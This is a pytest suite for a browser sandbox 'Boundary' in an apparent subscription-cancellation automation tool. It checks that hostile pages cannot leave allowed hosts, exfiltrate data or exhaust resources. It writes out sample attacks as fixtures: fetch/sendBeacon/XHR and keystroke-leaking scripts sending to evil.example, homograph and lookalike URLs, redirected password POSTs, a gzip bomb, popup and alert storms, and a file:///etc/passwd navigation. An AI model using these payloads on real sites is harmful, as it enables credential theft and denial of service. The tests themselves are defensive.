"""What a hostile page can't do: leave, send, fill the memory, flood the person."""

from __future__ import annotations

import contextlib
import gzip
import re
import socket
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from playwright.sync_api import Dialog, Page
from playwright.sync_api import Error as PlaywrightError

from autocancel.browser.boundary import MAX_DIALOGS, MAX_WINDOWS, Boundary, Stop, clean_url, is_inside, why_stopped
from autocancel.browser.launch import OpenBrowser
from autocancel.browser.reach import Reach

from .sites import FLOW_HOST, Answer, Seen, Web, deaf_socket, page, redirect

HOSTS = (FLOW_HOST, "docomo.ne.jp")
START = f"https://{FLOW_HOST}/start"


@pytest.mark.parametrize(
    "url",
    [
        "https://mwsecuritystore.jp",
        "https://mwsecuritystore.jp/loginmenu",
        "https://www.mwsecuritystore.jp/?a=https://evil.example/",
        "https://id.smt.docomo.ne.jp/cgi8/oidc#x",
    ],
)
def test_the_flows_own_hosts_are_inside(url: str) -> None:
    assert is_inside(url, HOSTS)


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/mwsecuritystore.jp",
        "https://mwsecuritystore.jp.evil.example/",
        "https://evilmwsecuritystore.jp/",
        "https://mwsecuritystore.jp.",
        "https://mwsecuritystore.jp:8443/",
        "https://user:pw@mwsecuritystore.jp/",
        "https://mwsecuritystore.jp@evil.example/",
        "https://mwsecuritystore.jp\\@evil.example/",
        "https://mwsecuritystore.jp%2eevil.example/",
        "https://evil.example\n.mwsecuritystore.jp/",
        "https://mwsecuritystоre.jp/",  # a Cyrillic о
        "https://xn--mwsecuritystre-9kk.jp/",
        "https://mwsecuritystore。jp/",
        "https://MWSECURITYSTORE.JP/",  # Chromium never writes it so
        "http://mwsecuritystore.jp/",
        "https:mwsecuritystore.jp/",
        "https:///mwsecuritystore.jp/",
        "https://.mwsecuritystore.jp/",
        "https://[::1]/",
        "wss://mwsecuritystore.jp/",
        "data:text/html,https://mwsecuritystore.jp/",
        "blob:https://mwsecuritystore.jp/0-0",
        "javascript:location='https://mwsecuritystore.jp/'",
        "file:///mwsecuritystore.jp",
        "about:blank",
        "",
    ],
)
def test_nothing_that_only_looks_alike_is_inside(url: str) -> None:
    assert not is_inside(url, HOSTS)


@given(st.text(alphabet="mwsecuritystore.jp/:@\\?#%-docomne ", max_size=60))
def test_whatever_is_inside_begins_with_a_host_of_the_flow(rest: str) -> None:
    if is_inside("https://" + rest, HOSTS):
        host = re.split("[/?#]", rest, maxsplit=1)[0]
        assert host in HOSTS or host.endswith(tuple("." + allowed for allowed in HOSTS))


def test_a_japanese_host_is_compared_as_the_browser_writes_it() -> None:
    assert Boundary(Reach(("日本語.jp",))).allows("https://xn--wgv71a119e.jp/")


def test_a_written_down_address_holds_no_query_and_no_user() -> None:
    assert clean_url("https://u:p@evil.example/a?token=1#x") == "https://evil.example/a"
    assert clean_url("data:text/html,secret") == "data:"


def _assert_stopped(opened: OpenBrowser, web: Web, host: str, reason: Stop = Stop.FOREIGN_HOST) -> None:
    stopped = opened.boundary.stopped
    assert stopped is not None
    assert (stopped.host, stopped.reason) == (host, reason)
    assert host not in web.hosts()


def _leave(window: Page, action: Callable[[], object]) -> None:
    """Do what makes the page navigate, and wait until the boundary has answered."""
    with window.context.expect_event("requestfailed"):
        action()


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_an_open_redirect_leads_nowhere(window: Page, web: Web, opened: OpenBrowser, status: int) -> None:
    web["/start"] = redirect(f"https://{FLOW_HOST}/hop", status)
    web["/hop"] = redirect("https://evil.example/login", status)
    with pytest.raises(PlaywrightError, match="ERR_BLOCKED_BY_CLIENT"):
        window.goto(START)
    _assert_stopped(opened, web, "evil.example")


@pytest.mark.parametrize("status", [307, 308])
def test_a_posted_password_is_not_carried_on_by_a_redirect(
    window: Page, web: Web, opened: OpenBrowser, status: int
) -> None:
    web["/start"] = page("<form method=post action=/login><input name=p value=demo-password></form>")
    web["/login"] = redirect("https://evil.example/steal", status)
    window.goto(START)
    _leave(window, lambda: window.evaluate("document.forms[0].submit()"))
    _assert_stopped(opened, web, "evil.example")
    assert opened.boundary.blocked[0].method == "POST"


def test_a_form_that_posts_elsewhere_posts_nothing(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page(
        "<form method=post action=https://mwsecuritystore.jp.evil.example/><input name=p value=x></form>"
    )
    window.goto(START)
    _leave(window, lambda: window.evaluate("document.forms[0].submit()"))
    _assert_stopped(opened, web, "mwsecuritystore.jp.evil.example")


def test_a_homograph_link_leads_nowhere(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page("<a href='https://mwsecuritystоre.jp/'>MWノートンストア</a>")
    window.goto(START)
    _leave(window, lambda: window.click("a"))
    assert opened.boundary.stopped is not None
    assert opened.boundary.stopped.host.startswith("xn--")
    assert web.hosts() == {FLOW_HOST}


@pytest.mark.parametrize(
    "url", [f"https://{FLOW_HOST}:8443/", f"https://user:pw@{FLOW_HOST}:81/", f"https://{FLOW_HOST}./"]
)
def test_the_right_name_at_the_wrong_door_is_not_entered(window: Page, web: Web, opened: OpenBrowser, url: str) -> None:
    web["/start"] = page(f"<a href='{url}'>進む</a>")
    window.goto(START)
    _leave(window, lambda: window.click("a"))
    assert opened.boundary.stopped is not None
    assert [seen.path for seen in web.seen if seen.host != FLOW_HOST] == []


def test_a_page_of_the_provider_without_tls_is_never_shown(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page(f"<a href='http://{FLOW_HOST}/next?a=1'>次へ</a>")
    window.goto(START)
    _leave(window, lambda: window.click("a"))
    assert opened.boundary.stopped is not None
    assert opened.boundary.stopped.reason is Stop.INSECURE
    assert "/next" not in [seen.path for seen in web.seen]


def test_a_script_cannot_send_what_was_typed_to_another_host(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page("<input id=p oninput=\"new Image().src='https://evil.example/?p='+this.value\">")
    window.goto(START)
    opened.boundary.hold_secrets()
    window.fill("#p", "demo-secret")
    window.wait_for_timeout(300)
    opened.boundary.release_secrets()
    assert [seen.host for seen in web.seen if seen.host != FLOW_HOST] == []


@pytest.mark.parametrize("action", [f"http://{FLOW_HOST}/plain", f"https://{FLOW_HOST}/hop"])
def test_nothing_is_posted_in_plain(window: Page, web: Web, opened: OpenBrowser, action: str) -> None:
    web["/start"] = page(f"<form method=post action='{action}'><input name=p value=x></form>")
    web["/hop"] = redirect(f"http://{FLOW_HOST}/plain", 307)
    window.goto(START)
    with window.expect_event("framenavigated"):  # Chromium's own warning, or the boundary's
        window.evaluate("document.forms[0].submit()")
    assert window.url.startswith("chrome-error:")
    assert "/plain" not in {seen.path for seen in web.seen}


def test_plain_http_on_the_flows_own_host_is_named_as_such() -> None:
    assert why_stopped("http://mwsecuritystore.jp/a", HOSTS) is Stop.INSECURE
    assert why_stopped("http://evil.example/a", HOSTS) is Stop.FOREIGN_HOST
    assert why_stopped("https://mwsecuritystore.jp:8443/a", HOSTS) is Stop.SCHEME
    assert why_stopped("https://evil.example:8443/a", HOSTS) is Stop.FOREIGN_HOST


def test_a_redirect_without_end_ends(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = redirect(f"https://{FLOW_HOST}/start")
    with pytest.raises(PlaywrightError, match="ERR_TOO_MANY_REDIRECTS"):
        window.goto(START)


@pytest.mark.parametrize(
    "script",
    [
        "location = 'data:text/html,<h1>login</h1>'",
        "location = 'file:///etc/passwd'",
        "location = URL.createObjectURL(new Blob(['<h1>login</h1>'], {type: 'text/html'}))",
        "location = 'javascript:\"<h1>login</h1>\"'",
    ],
)
def test_a_page_without_an_address_is_never_taken_for_the_providers(
    window: Page, web: Web, opened: OpenBrowser, script: str
) -> None:
    web["/start"] = page("<h1>空</h1>")
    window.goto(START)
    window.evaluate(f"() => {{ {script} }}")
    window.wait_for_timeout(300)  # nothing may happen: there is no event to wait for
    still_here = window.url == START
    assert still_here or not opened.boundary.allows(window.url)
    assert still_here or opened.boundary.stopped is not None


@pytest.mark.parametrize(
    "opener",
    [
        "window.open('https://evil.example/pop')",
        "window.open('https://evil.example/pop', '_blank', 'noopener')",
        "document.querySelector('a').click()",
        "document.querySelector('form').submit()",
        "{ const w = window.open(''); w.location = 'https://evil.example/pop' }",
        "window.open('/hop')",
    ],
)
def test_a_new_window_stays_inside(window: Page, web: Web, opened: OpenBrowser, opener: str) -> None:
    web["/start"] = page(
        "<a href=https://evil.example/pop target=_blank rel=noopener>x</a>"
        "<form method=post target=_blank action=https://evil.example/pop><input name=p value=x></form>"
    )
    web["/hop"] = redirect("https://evil.example/pop", 307)
    window.goto(START)
    _leave(window, lambda: window.evaluate(f"() => {{ {opener} }}"))
    _assert_stopped(opened, web, "evil.example")


def test_windows_without_end_are_closed(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page("<script>for (let i = 0; i < 30; i++) window.open('/pop?' + i)</script>")
    window.goto(START)
    window.wait_for_timeout(500)  # let every window arrive
    assert opened.boundary.stopped is not None
    assert opened.boundary.stopped.reason is Stop.POPUP_STORM
    assert len(opened.context.pages) <= MAX_WINDOWS


def test_a_foreign_frame_is_not_loaded_and_does_not_end_the_run(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page("<iframe src=https://evil.example/login></iframe><h1>契約内容</h1>")
    window.goto(START)
    assert [(b.host, b.main_frame) for b in opened.boundary.blocked] == [("evil.example", False)]
    assert opened.boundary.stopped is None
    assert "evil.example" not in web.hosts()


@pytest.mark.parametrize(
    "script",
    [
        "fetch('https://evil.example/steal', {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0)",
        "fetch('https://evil.example/steal', {method: 'POST', mode: 'no-cors', keepalive: true}).catch(() => 0)",
        "navigator.sendBeacon('https://evil.example/steal', 'x')",
        "{const x = new XMLHttpRequest(); x.open('POST', 'https://evil.example/steal'); x.send('x')}",
        "fetch('/hop', {method: 'POST', body: 'x'}).catch(() => 0)",
    ],
)
def test_a_script_posts_nothing_elsewhere(window: Page, web: Web, opened: OpenBrowser, script: str) -> None:
    web["/start"] = page("")
    web["/hop"] = Answer(status=307, headers={"Location": "https://evil.example/steal"})
    window.goto(START)
    _leave(window, lambda: window.evaluate(f"() => {{ {script} }}"))
    assert [(b.host, b.main_frame, b.method) for b in opened.boundary.blocked] == [("evil.example", False, "POST")]
    assert "POST" not in {seen.method for seen in web.seen if seen.host == "evil.example"}


def test_nothing_of_others_is_fetched_and_the_page_is_shown_all_the_same(
    window: Page, web: Web, opened: OpenBrowser
) -> None:
    web["/start"] = page(
        "<link rel=stylesheet href=https://cdn.example/a.css><script src=https://cdn.example/a.js></script>"
        "<img src=https://cdn.example/logo.png><img src=/logo.png><h1>契約内容</h1>"
    )
    window.goto(START)
    assert window.inner_text("h1") == "契約内容"
    assert web.hosts() == {FLOW_HOST}
    assert "/logo.png" in {seen.path for seen in web.seen}
    assert opened.boundary.blocked == []


def test_a_large_page_is_not_read(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = Answer(b"<p>" + b"x" * 50_000_000, headers={"Content-Type": "text/html"})
    with contextlib.suppress(PlaywrightError):  # whether the page was committed before it was left makes no difference
        window.goto(START)
    window.wait_for_url("about:blank")
    assert opened.boundary.stopped is not None
    assert opened.boundary.stopped.reason is Stop.PAGE_TOO_LARGE


def test_a_page_without_end_is_not_read(window: Page, web: Web, opened: OpenBrowser) -> None:
    sent = 0

    def forever(write: Callable[[bytes], object]) -> None:
        nonlocal sent
        while sent < 400_000_000:
            write(b"<p>" + b"x" * 100_000)
            sent += 100_003

    web["/start"] = Answer(headers={"Content-Type": "text/html"}, stream=forever)
    with contextlib.suppress(PlaywrightError):  # whether the page was committed before it was left makes no difference
        window.goto(START)
    window.wait_for_url("about:blank")
    assert opened.boundary.stopped is not None
    assert opened.boundary.stopped.reason is Stop.PAGE_TOO_LARGE
    assert sent < 400_000_000


def test_a_page_that_unpacks_without_end_is_not_read(window: Page, web: Web, opened: OpenBrowser) -> None:
    bomb = gzip.compress(b"<p>" + b"x" * 100_000_000)
    web["/start"] = Answer(bomb, headers={"Content-Type": "text/html", "Content-Encoding": "gzip"})
    with contextlib.suppress(PlaywrightError):  # whether the page was committed before it was left makes no difference
        window.goto(START)
    window.wait_for_url("about:blank")
    assert opened.boundary.stopped is not None
    assert opened.boundary.stopped.reason is Stop.PAGE_TOO_LARGE


def test_a_download_is_not_kept(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/file"] = Answer(
        b"MZ" * 1000, headers={"Content-Type": "application/octet-stream", "Content-Disposition": "attachment"}
    )
    web["/start"] = page("<a href=/file>x</a>")
    window.goto(START)
    with window.expect_download() as caught:
        window.click("a")
    assert caught.value.failure() is not None


def test_alerts_without_end_close_the_page(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page("<script>setTimeout(() => { for (;;) alert('x') }, 0)</script>")
    asked: list[str] = []

    def answer(dialog: Dialog) -> bool:
        asked.append(dialog.message)
        return True

    opened.boundary.answer_dialogs(window, answer)
    with window.expect_event("close"):
        window.goto(START, wait_until="commit")
    assert len(asked) == MAX_DIALOGS
    assert opened.boundary.stopped is not None
    assert opened.boundary.stopped.reason is Stop.DIALOG_STORM


@pytest.mark.parametrize("accepts", [True, False])
def test_a_dialog_gets_the_answer_it_was_given(window: Page, web: Web, opened: OpenBrowser, accepts: bool) -> None:
    web["/start"] = page("")
    opened.boundary.answer_dialogs(window, lambda dialog: accepts)
    window.goto(START)
    assert window.evaluate("confirm('解約しますか?')") is accepts


def test_a_service_worker_is_not_registered(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/sw.js"] = Answer(
        b"self.onfetch = e => e.respondWith(new Response('x'))", headers={"Content-Type": "text/javascript"}
    )
    web["/start"] = page("")
    window.goto(START)
    window.evaluate("navigator.serviceWorker ? navigator.serviceWorker.register('/sw.js').then(()=>1,()=>0) : 0")
    assert "/sw.js" not in {seen.path for seen in web.seen}


@pytest.mark.parametrize("permission", ["geolocation", "notifications", "camera", "clipboard-read"])
def test_no_permission_is_given(window: Page, web: Web, opened: OpenBrowser, permission: str) -> None:
    web["/start"] = page("")
    window.goto(START)
    state = window.evaluate("name => navigator.permissions.query({name}).then(p => p.state)", permission)
    assert state == "denied"


def test_webrtc_does_not_get_around_the_dry_runs_network(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page("")
    with deaf_socket(socket.SOCK_DGRAM) as ear:
        window.goto(START)
        window.evaluate(
            """port => new Promise(done => {
                const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + port}]});
                c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o));
                c.onicegatheringstatechange = () => c.iceGatheringState == 'complete' && done();
                setTimeout(done, 1500);
            })""",
            ear.getsockname()[1],
        )
        with pytest.raises(BlockingIOError):
            ear.recv(1)


def test_numeric_addresses_and_other_ports_stay_in_the_dry_runs_network(
    window: Page, web: Web, opened: OpenBrowser
) -> None:
    web["/start"] = page("")
    with deaf_socket(socket.SOCK_STREAM) as ear:
        port = ear.getsockname()[1]
        window.goto(START)
        for host in ("127.0.0.1", "localhost", "[::1]", "0.0.0.0"):
            window.evaluate("u => fetch(u, {mode: 'no-cors'}).catch(() => 0)", f"https://{host}:{port}/")
            window.evaluate(
                "u => new Promise(d => { const w = new WebSocket(u); w.onerror = w.onclose = d })",
                f"wss://{host}:{port}/",
            )
        with pytest.raises(BlockingIOError):
            ear.accept()


def test_an_ordinary_post_arrives_whole(window: Page, web: Web, opened: OpenBrowser) -> None:
    web["/start"] = page("<form method=post action=/next><input name=p value=解約></form>")
    window.goto(START)
    with window.expect_navigation():
        window.evaluate("document.forms[0].submit()")
    assert Seen(FLOW_HOST, "POST", "/next", b"p=%E8%A7%A3%E7%B4%84") in web.seen
    assert opened.boundary.blocked == []
